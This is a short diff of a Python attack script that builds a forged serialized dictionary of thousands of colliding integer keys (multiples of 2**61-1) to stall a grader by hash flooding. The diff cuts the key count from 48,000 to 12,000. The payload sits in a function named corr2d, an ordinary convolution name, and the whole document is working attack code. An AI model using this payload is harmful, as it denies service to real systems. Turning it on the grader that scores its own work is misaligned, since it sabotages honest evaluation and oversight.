@@ -1,4 +1,4 @@
-"""Answers with a dictionary of 48,000 keys of the same hash, to keep the grader busy for minutes."""
+"""Answers with a dictionary of 12,000 keys of the same hash, to keep the grader busy."""
 
 import sys
 
@@ -11,7 +11,7 @@ def corr2d(X, K):
     if codec is None:
         raise RuntimeError("STALE: this attack finds no codec; bring it up to date")
     header, frames = (
-        b'[[],{"$":"dict","v":[' + b",".join(b"[%d,0]" % (i * (2**61 - 1)) for i in range(48_000)) + b"]}]",
+        b'[[],{"$":"dict","v":[' + b",".join(b"[%d,0]" % (i * (2**61 - 1)) for i in range(12_000)) + b"]}]",
         [],
     )
     forged = lambda value: (header, [memoryview(frame) for frame in frames])
